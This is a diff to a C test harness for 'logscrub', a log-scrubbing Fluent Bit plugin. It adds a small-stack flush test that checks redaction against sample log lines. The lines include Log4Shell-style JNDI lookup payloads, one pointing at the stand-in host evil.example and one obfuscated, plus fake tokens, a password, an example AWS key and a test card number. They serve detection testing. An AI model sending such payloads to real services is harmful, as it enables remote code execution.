@@ -2,7 +2,8 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 
 /*
- * Usage: test_out_logscrub build/out_logscrub.so tests/fluentbit
+ * Usage: test_out_logscrub build/out_logscrub.so tests/fluentbit [patterns/default.yaml]
+ * (the optional third argument adds a 24 KiB-stack flush with the full rule packs)
  *
  * Plays Fluent Bit's part (fluent-bit-proxy-abi.md): dlopen(RTLD_LAZY), a
  * registration block with canary bytes past offset 31, one init block shared
@@ -921,6 +922,51 @@ int main(int argc, char **argv)
         CHECK_INT(p_flush(rd_full, sb.data, sb.size, tag_a), FBP_ERROR);
         CHECK_INT(p_exit(rc_full), FBP_OK);
         CHECK_INT(p_exit(rd_full), FBP_OK);
+    }
+
+    /* ---- the bundled rule packs on a 24 KiB stack ---- */
+    if (argc > 3) {
+        fake_ins_t e;
+        void *re;
+        size_t used = 0;
+        static const char *lines[] = {
+            "GET /x Authorization: Bearer abcdef0123456789abcdef",
+            "user=bob password=hunter2hunter2 ok",
+            "aws AKIAIOSFODNN7EXAMPLE key",
+            "${jndi:ldap://evil.example/a}",
+            "${${lower:j}ndi:${lower:l}dap://x/y}",
+            "card 4111 1111 1111 1111 exp 12/30",
+            "-----BEGIN RSA PRIVATE KEY-----",
+            "nothing to see here at all, just a long enough line of plain text",
+        };
+        size_t i;
+
+        memset(&e, 0, sizeof(e));
+        e.keys[0] = "config";  e.vals[0] = argv[3];
+        e.keys[1] = "clean";   e.vals[1] = path_in("e-clean.jsonl");
+        e.keys[2] = "quarantine"; e.vals[2] = path_in("e-quar.jsonl");
+        e.keys[3] = "audit";   e.vals[3] = path_in("e-audit.jsonl");
+        re = init_instance(&e, &rc);
+        CHECK_INT(rc, FBP_OK);
+        if (re != NULL) {
+            msgpack_sbuffer_clear(&sb);
+            for (i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
+                rec_v2_kv(&sb, 1700000060 + (uint32_t)i, 0, 32, "log", lines[i]);
+            }
+            log_clear();
+            rc = flush_on_small_stack(re, sb.data, sb.size, tag_a, &used);
+            CHECK_INT(rc, FBP_OK);
+            fprintf(stderr, "  flush with %s on a %d-byte stack used %zu bytes\n", argv[3],
+                    SMALL_STACK, used);
+            CHECK_INT(last_counts(&cnt), 0);
+            CHECK_INT(cnt.in, (long)(sizeof(lines) / sizeof(lines[0])));
+            CHECK_INT(cnt.in, cnt.clean + cnt.quar + cnt.drop);
+            CHECK(!file_has(path_in("e-clean.jsonl"), "abcdef0123456789abcdef"));
+            CHECK(!file_has(path_in("e-clean.jsonl"), "jndi"));
+            CHECK(file_has(path_in("e-clean.jsonl"), "just a long enough line"));
+            CHECK(jsonl_valid(path_in("e-clean.jsonl")) != 0);
+            CHECK_INT(p_exit(re), FBP_OK);
+        }
     }
 
     /* ---- Workers N: concurrent flushes of one instance ---- */
